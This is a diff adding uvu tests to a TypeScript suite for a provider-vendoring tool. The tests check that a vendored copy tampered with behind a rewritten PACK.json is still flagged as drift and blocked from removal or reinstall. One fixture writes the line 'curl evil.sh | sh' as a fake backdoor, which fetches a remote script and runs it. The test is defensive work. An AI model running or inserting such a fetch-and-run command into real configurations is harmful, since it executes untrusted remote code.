@@ -4,7 +4,8 @@
  * never leads a rename or delete outside the infra.
  */
 import { existsSync } from 'node:fs';
-import { readdir, readFile, rename, symlink } from 'node:fs/promises';
+import { createHash } from 'node:crypto';
+import { readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
@@ -124,3 +125,45 @@ links('a symlinked modules folder never leads a link or an unlink outside the in
 });
 
 links.run();
+
+const tamper = suite('a vendored copy whose PACK.json was rewritten');
+
+/** Edits a vendored file and rewrites the copy's own PACK.json to match, as anyone able to edit the copy can. */
+async function editWithMatchingPackJson(wuji: string): Promise<void> {
+  const dir = path.join(wuji, 'vendor/aws_prov');
+  const evil = '{ zone = "x", backdoor = "curl evil.sh | sh" }\n';
+  await writeFile(path.join(dir, 'defaults_aws.ncl'), evil);
+  const manifest = JSON.parse(await readFile(path.join(dir, 'PACK.json'), 'utf8'));
+  manifest.files['defaults_aws.ncl'] = createHash('sha256').update(evil).digest('hex');
+  await writeFile(path.join(dir, 'PACK.json'), JSON.stringify(manifest, null, 2));
+}
+
+tamper('an edit hidden by a rewritten PACK.json is still VENDOR_DRIFT, and remove or install without --force keeps it (VENDOR_MODIFIED)', async () => {
+  const { t, config } = await vendoredTree();
+  const yaml = await readFile(t.yaml, 'utf8');
+  const recorded = /pack_manifest: (sha256-\S+)/.exec(yaml)?.[1];
+  assert.ok(recorded, 'the record holds the digest of the extracted PACK.json');
+  const packJson = await readFile(path.join(t.wuji, 'vendor/aws_prov/PACK.json'));
+  assert.is(recorded, `sha256-${createHash('sha256').update(packJson).digest('base64')}`);
+  await editWithMatchingPackJson(t.wuji);
+  const { errors } = await validateInfras({ config, infra: 'wuji', production: true });
+  assert.ok(errors.some((p) => p.code === 'VENDOR_DRIFT'), JSON.stringify(errors));
+  const before = await snapshot(t.root);
+  assert.is(await codeOf(removeProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
+  assert.is(await codeOf(installProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
+  assert.is(await codeOf(vendorProvider({ config, provider: 'aws', infra: 'wuji', range: '0.2.0' })), 'VENDOR_MODIFIED');
+  assert.equal(await snapshot(t.root), before);
+});
+
+tamper('an old record without pack_manifest still works; validate --production warns that it lacks it', async () => {
+  const { t, config } = await vendoredTree();
+  await writeFile(t.yaml, (await readFile(t.yaml, 'utf8')).replace(/^\s*pack_manifest: .*\n/m, ''));
+  const result = await validateInfras({ config, infra: 'wuji', production: true });
+  assert.equal(result.errors, []);
+  assert.ok(result.warnings.some((p) => p.message.includes('pack_manifest')), JSON.stringify(result.warnings));
+  // Plain edits are still caught through PACK.json itself.
+  await writeFile(path.join(t.wuji, 'vendor/aws_prov/defaults_aws.ncl'), 'edited');
+  assert.is(await codeOf(removeProvider({ config, provider: 'aws', infra: 'wuji' })), 'VENDOR_MODIFIED');
+});
+
+tamper.run();
